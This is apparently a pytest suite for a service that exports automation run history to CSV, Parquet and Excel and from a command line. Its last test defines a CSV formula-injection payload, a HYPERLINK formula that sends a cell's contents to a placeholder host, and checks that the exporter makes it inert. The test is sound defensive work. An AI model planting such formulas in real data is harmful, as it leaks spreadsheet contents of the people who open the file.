"""History export: same rows as the query, in chunks, as CSV / Parquet / Excel and from the CLI."""

from __future__ import annotations

import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from db import queries
from db.queries import ExecutionFilters
from db.session import session_scope
from service import exports
from testkit.factories import ADMIN, add_executions, make_automation, now


def _frame(filters: ExecutionFilters) -> pd.DataFrame:
    with session_scope() as session:
        return exports.history_frame(session, filters, actor=ADMIN)


def _write(filters: ExecutionFilters, path: Path, fmt: exports.Format, **options: Any) -> int:
    with session_scope() as session:
        return exports.write_history(session, filters, path, fmt, **options, actor=ADMIN)


pytestmark = pytest.mark.usefixtures("db")
ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture
def history() -> dict[str, object]:
    """Two automations, 23 runs of mixed status over the last hours."""
    a = make_automation(name="Alpha")
    b = make_automation(name="Beta")
    t = now()
    add_executions(
        a,
        [
            {
                "status": ("succeeded", "failed", "skipped")[n % 3],
                "queued_at": t - timedelta(minutes=n),
                "error": 'boom, "quoted"\nline' if n % 3 == 1 else None,
            }
            for n in range(20)
        ],
    )
    add_executions(
        b,
        [{"status": "failed", "queued_at": t - timedelta(minutes=n, seconds=30)} for n in range(3)],
    )
    return {"alpha": a, "beta": b, "now": t}


def query_ids(filters: ExecutionFilters) -> list[str]:
    with session_scope() as session:
        page = queries.list_executions(session, filters, limit=10_000, actor=ADMIN)
    return [str(r.id) for r in page.rows]


@pytest.mark.parametrize(
    "filters",
    [
        ExecutionFilters(),
        ExecutionFilters(statuses=("failed",)),
        ExecutionFilters(statuses=("failed", "skipped"), trigger="manual"),
    ],
)
def test_frame_has_the_query_rows_in_order(
    history: dict[str, object], filters: ExecutionFilters
) -> None:
    frame = _frame(filters)
    assert list(frame.columns) == list(exports.COLUMNS)
    assert list(frame["execution_id"]) == query_ids(filters)


def test_frame_of_nothing_has_the_columns() -> None:
    frame = _frame(ExecutionFilters(statuses=("running",)))
    assert frame.empty and list(frame.columns) == list(exports.COLUMNS)


@pytest.mark.parametrize("fmt", ["csv", "parquet", "xlsx"])
def test_file_reads_back_as_the_query_rows_written_in_chunks(
    history: dict[str, object], fmt: str, tmp_path: Path
) -> None:
    # given a filter and a chunk size smaller than the result
    filters = ExecutionFilters(automation_id=history["alpha"])  # type: ignore[arg-type]
    seen: list[tuple[int, int]] = []
    path = tmp_path / f"history.{fmt}"
    # when
    rows = _write(
        filters, path, fmt, chunk_size=6, progress=lambda done, total: seen.append((done, total))
    )
    # then
    back = {"csv": pd.read_csv, "parquet": pd.read_parquet, "xlsx": pd.read_excel}[fmt](path)
    assert rows == 20 == len(back)
    assert seen == [(6, 20), (12, 20), (18, 20), (20, 20)]
    assert list(back["execution_id"].astype(str)) == query_ids(filters)
    header = exports.EXCEL_HEADER if fmt == "xlsx" else exports.COLUMNS
    assert list(back.columns) == list(header)
    expected = _frame(filters)
    assert list(back["status"]) == list(expected["status"])
    assert back["error"].fillna("").tolist() == expected["error"].fillna("").tolist()
    assert back["duration_s"].tolist() == pytest.approx([1.0] * 20)


def test_excel_times_are_labelled_utc_and_every_column_fits_its_values(tmp_path: Path) -> None:
    from openpyxl import load_workbook
    from openpyxl.utils import get_column_letter

    # given a run that finished at 09:30:05 UTC
    end = datetime(2026, 12, 7, 9, 30, 5, tzinfo=UTC)
    add_executions(
        make_automation(name="Nightly report"),
        [
            {
                "status": "succeeded",
                "scheduled_for": end - timedelta(minutes=1),
                "queued_at": end - timedelta(minutes=1),
                "started_at": end - timedelta(seconds=30),
                "finished_at": end,
            }
        ],
    )
    # when the history is exported as Excel
    _write(ExecutionFilters(), tmp_path / "h.xlsx", "xlsx")
    sheet = load_workbook(tmp_path / "h.xlsx").active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    # then every time column says its zone, and holds that zone's wall time
    times = [n for n, name in enumerate(header) if name.split(" ")[0].endswith(("_at", "_for"))]
    assert [header[n] for n in times] == [
        "scheduled_for (UTC)",
        "queued_at (UTC)",
        "started_at (UTC)",
        "finished_at (UTC)",
    ]
    finished = sheet.cell(row=2, column=header.index("finished_at (UTC)") + 1)
    assert finished.value == datetime(2026, 12, 7, 9, 30, 5)
    assert finished.number_format == "yyyy-mm-dd hh:mm:ss"
    # and each column is as wide as its header and its widest value as shown
    for n, name in enumerate(header, start=1):
        cells = [c for (c,) in sheet.iter_rows(min_col=n, max_col=n, min_row=2)]
        shown = [
            len(finished.number_format) if isinstance(c.value, datetime) else len(str(c.value))
            for c in cells
            if c.value is not None and name != "error"
        ]
        width = sheet.column_dimensions[get_column_letter(n)].width
        assert width >= max([len(name), *shown]) + 1, (name, width)


def test_parquet_keeps_types(history: dict[str, object], tmp_path: Path) -> None:
    _write(ExecutionFilters(), tmp_path / "h.parquet", "parquet", chunk_size=5)
    back = pd.read_parquet(tmp_path / "h.parquet")
    assert str(back["queued_at"].dt.tz) == "UTC"
    assert back["attempt"].dtype == "int64"


def test_empty_export_still_has_a_header(tmp_path: Path) -> None:
    rows = _write(ExecutionFilters(), tmp_path / "h.csv", "csv")
    assert rows == 0
    assert list(pd.read_csv(tmp_path / "h.csv").columns) == list(exports.COLUMNS)


def test_cli_exports_filtered_history(history: dict[str, object], tmp_path: Path) -> None:
    # given
    out = tmp_path / "failed.parquet"
    since = (history["now"] - timedelta(hours=1)).isoformat()  # type: ignore[operator]
    # when
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "stepwise.cli",
            "export",
            "--format",
            "parquet",
            "--out",
            str(out),
            "--status",
            "failed",
            "--automation",
            str(history["beta"]),
            "--since",
            since,
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    # then
    assert done.returncode == 0, done.stderr
    assert "wrote 3 rows" in done.stdout
    back = pd.read_parquet(out)
    assert set(back["automation"]) == {"Beta"} and len(back) == 3


def test_cli_rejects_a_bad_filter(tmp_path: Path) -> None:
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "stepwise.cli",
            "export",
            "--out",
            str(tmp_path / "x.csv"),
            "--automation",
            "not-a-uuid",
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 2
    assert "stepwise export:" in done.stderr


HOSTILE = '=HYPERLINK("http://x.example/?d="&A2,"click")'


def test_spreadsheet_formulas_from_names_and_errors_are_made_inert(tmp_path: Path) -> None:
    # given an automation named like a formula, whose run failed with formula-like text
    hostile = make_automation(name=HOSTILE)
    add_executions(hostile, [{"status": "failed", "error": "@SUM(A1:A9)"}])
    add_executions(
        make_automation(name="Plain - name"), [{"status": "failed", "error": "-1 items"}]
    )
    # when the history is exported as CSV and as Excel
    _write(ExecutionFilters(), tmp_path / "h.csv", "csv")
    _write(ExecutionFilters(), tmp_path / "h.xlsx", "xlsx")
    # then no cell a person or agent wrote starts a formula
    csv = pd.read_csv(tmp_path / "h.csv")
    assert sorted(csv["automation"]) == ["'" + HOSTILE, "Plain - name"]
    assert sorted(csv["error"]) == ["'-1 items", "'@SUM(A1:A9)"]
    from openpyxl import load_workbook

    sheet = load_workbook(tmp_path / "h.xlsx").active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert {"'" + HOSTILE, "'@SUM(A1:A9)"} <= {c.value for c in cells}
    # and the typed formats keep the text as written
    assert set(_frame(ExecutionFilters())["automation"]) == {HOSTILE, "Plain - name"}
